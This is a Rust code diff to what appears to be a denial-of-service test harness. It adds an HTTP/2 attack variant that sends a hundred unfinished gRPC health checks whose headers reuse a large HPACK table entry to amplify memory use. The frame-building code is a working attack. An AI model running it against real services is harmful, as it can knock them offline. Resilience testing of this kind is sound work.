@@ -29,6 +29,8 @@ pub enum Attack {
     SlowBody,
     /// HTTP/2, with a health check whose message does not come.
     UnfinishedCheck,
+    /// HTTP/2, with a hundred unfinished health checks. Their headers are large, and refer to the HPACK table.
+    LargeHeaders,
 }
 
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
@@ -57,7 +59,11 @@ fn post(path: &str) -> Vec<u8> {
 impl Attack {
     /// One connection of the attack. It is given back to be held open; none where the service has closed it.
     pub async fn open(self, address: &str) -> Option<TcpStream> {
-        let mut stream = TcpStream::connect(address).await.ok()?;
+        self.run(TcpStream::connect(address).await.ok()?).await
+    }
+
+    /// The same, over this connection.
+    pub async fn run(self, mut stream: TcpStream) -> Option<TcpStream> {
         let hello = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
         match self {
             Self::Silence => Some(stream),
@@ -74,6 +80,18 @@ impl Attack {
             Self::UnfinishedCheck => {
                 let check = frame(HEADERS, END_HEADERS, 1, &post("/grpc.health.v1.Health/Check"));
                 stream.write_all(&[hello, check].concat()).await.ok().map(|()| stream)
+            }
+            Self::LargeHeaders => {
+                // A header of one letter with a value of 3,800, which the table keeps under the number 62.
+                let entry =
+                    [&[0x40, 1, b'a', 0x7f, 0xd9, 0x1c][..], &[b'x'; 127 + 0x59 + (0x1c << 7)]].concat();
+                let mut frames = hello;
+                for number in 0..100 {
+                    let first = if number == 0 { entry.clone() } else { vec![0xbe] };
+                    let block = [post("/grpc.health.v1.Health/Check"), first, vec![0xbe; 3]].concat();
+                    frames.extend(frame(HEADERS, END_HEADERS, 2 * number + 1, &block));
+                }
+                stream.write_all(&frames).await.ok().map(|()| stream)
             }
             Self::Idle => stream.write_all(&hello).await.ok().map(|()| stream),
             Self::RapidReset => {
